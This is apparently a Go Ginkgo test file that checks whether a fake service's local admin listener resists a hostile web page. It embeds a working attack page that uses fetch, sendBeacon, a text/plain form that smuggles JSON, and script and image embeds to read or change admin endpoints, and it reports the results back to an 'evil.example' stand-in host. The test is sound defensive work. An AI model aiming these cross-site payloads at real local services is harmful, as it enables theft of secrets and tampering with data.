package selfproof_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"strings"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

// hostilePage is a page that knows the address of a fake's admin listener, and tries to read and to write there in every way
// that a page has. It then tells its own server what it could read.
const hostilePage = `<!DOCTYPE html><title>hostile</title><body><script>
const admin = %q, read = [];
const faults = JSON.stringify({faults: ['no-agent']});
const attempt = async (what, path, options) => {
  try {
    const answer = await fetch(admin + path, options);
    read.push(what + ': ' + answer.type + ' ' + answer.status + ' ' + await answer.text());
  } catch (e) { read.push(what + ': refused'); }
};
const form = (path, type, name, value) => new Promise((done) => {
  const frame = document.createElement('iframe');
  frame.name = 'frame' + Math.random();
  document.body.append(frame);
  const f = document.createElement('form');
  Object.assign(f, {method: 'POST', action: admin + path, enctype: type, target: frame.name});
  const field = document.createElement('input');
  Object.assign(field, {type: 'hidden', name, value});
  f.append(field);
  document.body.append(f);
  frame.onload = done;
  f.submit();
  setTimeout(done, 3000);
});
const embed = (tag, attribute, path) => new Promise((done) => {
  const e = document.createElement(tag);
  e.onload = () => { read.push(tag + ': loaded ' + path); done(); };
  e.onerror = done;
  e[attribute] = admin + path;
  document.body.append(e);
  setTimeout(done, 3000);
});
(async () => {
  for (const mode of ['cors', 'no-cors']) {
    for (const path of ['/', '/journal', '/instance', '/faults']) await attempt('GET ' + path, path, {mode});
    await attempt('POST text', '/faults', {mode, method: 'POST', body: faults});
    await attempt('POST JSON', '/faults', {mode, method: 'POST', body: faults, headers: {'Content-Type': 'application/json'}});
    await attempt('POST blob', '/faults', {mode, method: 'POST', body: new Blob([faults])});
    await attempt('POST reset', '/reset', {mode, method: 'POST'});
    await attempt('DELETE', '/journal', {mode, method: 'DELETE'});
  }
  navigator.sendBeacon(admin + '/faults', faults);
  await form('/faults', 'text/plain', '{"faults":["no-agent"],"x":"', '"}');
  await form('/reset', 'application/x-www-form-urlencoded', 'a', 'b');
  await embed('script', 'src', '/journal');
  await embed('img', 'src', '/instance');
  await fetch('/told', {method: 'POST', body: read.join('\n')});
})();
</script>`

var _ = Describe("a page of another site", Label("browser", "files"), func() {
	It("neither reads nor changes anything at the fake's admin listener", func(ctx SpecContext) {
		_, chromium := browserRun()
		fake := start()
		journal := func() string {
			answer, err := http.Get(fake.AdminURL + "/journal")
			Expect(err).NotTo(HaveOccurred())
			defer answer.Body.Close()
			raw, err := io.ReadAll(answer.Body)
			Expect(err).NotTo(HaveOccurred())
			return string(raw)
		}
		answer, err := fake.Client().Get(fake.URL + "/api/authinfo?marker=seen")
		Expect(err).NotTo(HaveOccurred())
		_ = answer.Body.Close()
		before := journal()
		Expect(before).To(ContainSubstring("marker=seen"))
		port := strings.TrimPrefix(fake.AdminURL, "http://127.0.0.1")
		told := make(chan string, 8)
		// Three addresses of the same listener: as it is told, as localhost, and by a foreign name that resolves to this machine,
		// where page and listener are of one origin but for the port.
		for _, admin := range []string{fake.AdminURL, "http://localhost" + port, "http://evil.example" + port} {
			page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/told" {
					body, _ := io.ReadAll(r.Body)
					told <- string(body)
					return
				}
				w.Header().Set("Content-Type", "text/html")
				fmt.Fprintf(w, hostilePage, admin)
			}))
			at, err := url.Parse(page.URL)
			Expect(err).NotTo(HaveOccurred())
			profile, err := os.MkdirTemp("", "halocheck-chromium-")
			Expect(err).NotTo(HaveOccurred())
			DeferCleanup(func() { // its children end a moment after it, and write until then
				Eventually(os.RemoveAll, "30s").WithArguments(profile).Should(Succeed())
			})
			browser := exec.CommandContext(ctx, chromium, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--user-data-dir="+profile,
				"--host-resolver-rules=MAP evil.example 127.0.0.1", "--remote-debugging-port=0", "http://evil.example:"+at.Port()+"/")
			Expect(browser.Start()).To(Succeed())
			var read string
			Eventually(told, "90s").Should(Receive(&read), admin)
			_ = browser.Process.Kill()
			_ = browser.Wait()
			page.Close()
			GinkgoWriter.Println(admin + "\n" + read)
			Expect(read).To(ContainSubstring("GET /journal: "))
			Expect(read).NotTo(Or(ContainSubstring("marker"), ContainSubstring(fake.Credentials.ClientSecret), ContainSubstring("loaded"), ContainSubstring(" 200 ")))
			Expect(journal()).To(Equal(before))
			Expect(fake.Injected()).To(BeEmpty())
			answer, err := http.Get(fake.AdminURL + "/faults")
			Expect(err).NotTo(HaveOccurred())
			raw, err := io.ReadAll(answer.Body)
			_ = answer.Body.Close()
			Expect(err).NotTo(HaveOccurred())
			Expect(strings.TrimSpace(string(raw))).To(Equal("[]"))
		}
	}, SpecTimeout(6*time.Minute))
})
